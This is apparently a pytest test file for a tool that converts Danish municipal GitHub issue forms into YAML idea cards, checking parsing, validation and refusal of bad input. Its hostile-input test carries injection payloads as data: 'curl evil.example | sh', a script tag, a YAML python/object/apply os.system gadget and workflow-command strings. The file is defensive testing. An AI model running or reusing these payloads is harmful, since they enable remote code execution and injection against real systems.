"""Issue form → idea card: real issue bodies, complete, incomplete and hostile."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import Result

from generator.authoring.issue_body import (
    FORM_FIELDS,
    read_issue,
    read_issue_file,
    split_sections,
)
from generator.authoring.issue_form import NO_OPEN_THEME_CHOICE, render_form
from generator.errors import PortfolioError
from generator.model import Portfolio
from generator.periods import open_themes
from generator.pipeline import check_portfolio
from generator.settings import Settings
from tests.authoring.conftest import ISSUES, Tree
from tests.authoring.sample import FORMS, TODAY, questions
from tests.conftest import RECORDS_TODAY, REPO

Cli = Callable[..., Result]
Build = Callable[..., Tree]
FORM = FORMS / "idekort.yml"


def body(name: str) -> str:
    return (ISSUES / f"{name}.md").read_bytes().decode("utf-8")


@pytest.fixture
def portfolio(tree: Build) -> Portfolio:
    return check_portfolio(Settings(records_dir=tree().records, today=TODAY)).portfolio


def from_issue(cli: Cli, t: Tree, name: str, *args: str) -> Result:
    return cli(
        "new", "idea", "--records", t.records, "--today", TODAY,
        "--from-issue", ISSUES / f"{name}.md", *args,
    )  # fmt: skip


def test_fixture_bodies_are_as_github_writes_them() -> None:
    text = body("complete")
    assert "\r\n" in text  # typed text keeps CRLF
    assert "### Tema\n\nSamskabelse og frivillighed\n\n### Resumé\n" in text
    assert "### Enhed\n\n_No response_\n" in body("minimal")


def test_complete_issue(portfolio: Portfolio) -> None:
    issue = read_issue(body("complete"), portfolio)
    assert issue.errors == []
    assert issue.fields == {
        "title": "Digital nabohjælp for ældre på Åbyhøj",
        "theme": "samskabelse-og-frivillighed",
        "summary": "Naboer hjælper ældre med små opgaver, formidlet gennem en enkel app.\n"
        "Kommunen stiller platformen til rådighed.",
        "problem": "Mange ældre er ensomme og mangler hjælp til små praktiske ting.\n\n"
        "- indkøb\n- småreparationer",
        "target_group": "Hjemmeboende ældre over 75 år i to boligområder.",
        "benefit_potential": "Færre visitationer til praktisk hjælp og mindre ensomhed.",
        "departments": ["sundhed-og-omsorg", "kultur-og-borgerservice"],
        "owner_department": "sundhed-og-omsorg",
        "owner_unit": "Aktivitet og Træning",
        "owner_contact": "nabohjaelp@example.dk",
        "partners": ["Ældre Sagen Aarhus", "Boligforeningen Vest"],
        "tags": ["ældre", "frivillige", "nabohjælp"],
    }


def test_complete_issue_becomes_a_valid_card(tree: Build, portfolio_cli: Cli) -> None:
    t = tree()
    result = from_issue(portfolio_cli, t, "complete", "--submitted", "2022-06-01")
    assert result.exit_code == 0, result.output
    path = "ideas/digital-nabohjaelp-for-aeldre-paa-aabyhoej/idea.yaml"
    assert result.stdout == f"Skrev records/{path}\n"
    text = t.read(path)
    assert text.startswith(
        "# yaml-language-server: $schema=../../../schemas/idea.schema.json\n"
        "title: Digital nabohjælp for ældre på Åbyhøj\n"
        "theme: samskabelse-og-frivillighed\n"
        "submitted: 2022-06-01\n"
        "summary: |-\n"
        "  Naboer hjælper ældre med små opgaver, formidlet gennem en enkel app.\n"
        "  Kommunen stiller platformen til rådighed.\n"
    )
    assert "\r" not in text
    check = portfolio_cli("validate", "--records", t.records, "--today", TODAY, "--strict")
    assert check.exit_code == 0, check.output


def test_minimal_issue_leaves_optional_fields_out(portfolio: Portfolio) -> None:
    issue = read_issue(body("minimal"), portfolio)
    assert issue.errors == []
    assert issue.fields["partners"] == [] and issue.fields["tags"] == []
    assert "owner_unit" not in issue.fields and "owner_contact" not in issue.fields


def test_missing_and_empty_fields_are_all_reported(
    portfolio: Portfolio, tree: Build, portfolio_cli: Cli
) -> None:
    issue = read_issue(body("missing_fields"), portfolio)
    assert issue.errors == [
        "Feltet 'Konkret målgruppe' mangler i issue-teksten; brug formularen Idekort.",
        "Feltet 'Ejerens afdeling' mangler i issue-teksten; brug formularen Idekort.",
        "Feltet 'Ideens titel' er ikke udfyldt.",
        "Feltet 'Gevinstpotentiale' er ikke udfyldt.",
        "Feltet 'Bekræftelse' er ikke krydset af.",
    ]
    t = tree()
    before = t.files()
    result = from_issue(portfolio_cli, t, "missing_fields")
    assert result.exit_code == 1
    assert "Issuet kan ikke blive til et idekort:\n  - Feltet 'Konkret målgruppe'" in result.stderr
    assert t.files() == before


def test_unknown_theme_and_department(portfolio: Portfolio) -> None:
    issue = read_issue(body("unknown_choices"), portfolio)
    assert issue.errors == [
        "Temaet 'Sport og fritid' findes ikke.",
        "Afdelingen 'Finansforvaltningen' findes ikke.",
    ]


def test_not_a_form_at_all(portfolio: Portfolio) -> None:
    issue = read_issue("Hej, jeg har en god ide om cykler!", portfolio)
    assert len(issue.errors) == len(FORM_FIELDS)


def test_hostile_text_stays_data(tree: Build, portfolio_cli: Cli, portfolio: Portfolio) -> None:
    issue = read_issue(body("hostile"), portfolio)
    assert issue.errors == []
    assert issue.fields["theme"] == "klima"  # the "### Tema" inside the summary changes nothing
    assert "### Tema\n\nIntegration" in issue.fields["summary"]
    assert issue.fields["tags"] == ["yes", "null", "123", "@hold"]
    t = tree()
    result = from_issue(portfolio_cli, t, "hostile")
    assert result.exit_code == 0, result.output
    [written] = [p for p in t.files() if p.startswith("ideas/title-hacked")]
    data: dict[str, Any] = yaml.safe_load(t.read(written))
    assert data["title"] == 'title: hacked" && curl evil.example | sh #'
    assert "example" not in data  # "example: true" inside a text stays text
    assert data["tags"] == ["yes", "null", "123", "@hold"]
    assert data["problem"].startswith("<script>alert(1)</script>")
    assert "!!python/object/apply:os.system ['id']" in data["problem"]


def test_invisible_characters_are_refused(tree: Build, portfolio_cli: Cli) -> None:
    t = tree()
    before = t.files()
    result = from_issue(portfolio_cli, t, "invisible")
    assert result.exit_code == 1
    assert "Feltet 'resumé' indeholder et usynligt tegn eller styretegn (U+202E)" in result.stderr
    assert t.files() == before


def test_messages_never_echo_workflow_commands(portfolio: Portfolio) -> None:
    text = body("unknown_choices").replace("Sport og fritid", "::error::\n::add-mask::x")
    issue = read_issue(text, portfolio)
    assert all("::" not in message and "\n" not in message for message in issue.errors)


def test_options_override_the_issue(tree: Build, portfolio_cli: Cli) -> None:
    t = tree()
    result = from_issue(portfolio_cli, t, "minimal", "--theme", "samskabelse-og-frivillighed")
    assert result.exit_code == 0, result.output
    assert "theme: samskabelse-og-frivillighed\n" in t.read("ideas/klimavenlige-kantiner/idea.yaml")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\xff\xfe", "er ikke gyldig UTF-8"),
        (b"x" * (256 * 1024 + 1), "er større end 256 KiB"),
        ("a" * 70_000, "Issue-teksten er længere end 65536 tegn."),
    ],
)
def test_unreadable_issue_files(
    tree: Build, portfolio_cli: Cli, tmp_path: Path, content: bytes | str, message: str
) -> None:
    t = tree()
    path = tmp_path / "issue.md"
    if isinstance(content, str):
        path.write_text(content, encoding="utf-8")
    else:
        path.write_bytes(content)
    result = portfolio_cli(
        "new", "idea", "--records", t.records, "--today", TODAY, "--from-issue", path
    )
    assert result.exit_code == 1
    assert message in result.stderr


def test_parser_and_form_agree() -> None:
    asked = questions("idekort")
    assert [(q["attributes"]["label"], q["id"]) for q in asked] == [
        (f.label, f.key) for f in FORM_FIELDS
    ]
    for question, form_field in zip(asked, FORM_FIELDS, strict=True):
        required = question.get("validations", {}).get("required", False)
        if question["type"] == "checkboxes":
            required = all(option["required"] for option in question["attributes"]["options"])
        assert required == form_field.required, form_field.label


# The committed form's regions for fixed days of the real records: the themes of 2019-2022
# are open mid-2020, and all are closed on RECORDS_TODAY. Whether the committed file is current on the
# real date is CI's step `portfolio issueform --check`, not a test's.
@pytest.mark.parametrize("day", ["2020-06-30", RECORDS_TODAY])
def test_form_choices_are_the_records_names(day: str) -> None:
    portfolio = check_portfolio(Settings(records_dir=REPO / "records", today=day)).portfolio
    rendered = render_form(FORM.read_text("utf-8"), portfolio, day)
    form = {item.get("id"): item for item in yaml.safe_load(rendered)["body"]}
    themes = [t.name for t in open_themes(portfolio, day)]
    assert bool(themes) == (day == "2020-06-30")
    assert form["theme"]["attributes"]["options"] == (themes or [NO_OPEN_THEME_CHOICE])
    departments = [d.name for d in portfolio.departments.values()]
    for key in ("departments", "owner_department"):
        assert form[key]["attributes"]["options"] == departments


def test_sections_are_found_in_order_only() -> None:
    text = "### Tema\n\nKlima\n\n### Ideens titel\n\nTitel\n"
    sections, missing = split_sections(text)
    assert sections["title"] == "Titel"
    assert "Tema" in missing  # a heading before the title's does not count


def test_a_device_is_refused_before_anything_is_read(tree: Build, portfolio_cli: Cli) -> None:
    # /dev/zero has no end: reading it first grew to gigabytes before the size was checked.
    t = tree()
    result = portfolio_cli(
        "new", "idea", "--records", t.records, "--today", TODAY, "--from-issue", "/dev/zero"
    )
    assert result.exit_code == 1
    assert "/dev/zero er ikke en almindelig fil" in result.stderr
    assert "Traceback" not in result.output


def test_a_pipe_is_refused_without_waiting_for_a_writer(tmp_path: Path) -> None:
    # Opening a pipe with no writer blocks until one comes; this one never does. The check
    # opens without waiting and refuses what is not a regular file.
    fifo = tmp_path / "issue.md"
    os.mkfifo(fifo)
    with pytest.raises(PortfolioError, match="er ikke en almindelig fil"):
        read_issue_file(fifo)


def test_a_file_over_256_kib_is_refused_by_its_size(tmp_path: Path) -> None:
    path = tmp_path / "issue.md"
    path.write_bytes(b"a" * (256 * 1024 + 1))  # one byte over 262,144
    with pytest.raises(PortfolioError, match="større end 256 KiB"):
        read_issue_file(path)
    path.write_bytes(b"### Ideens titel\n\nCykler\n")
    assert read_issue_file(path) == "### Ideens titel\n\nCykler\n"
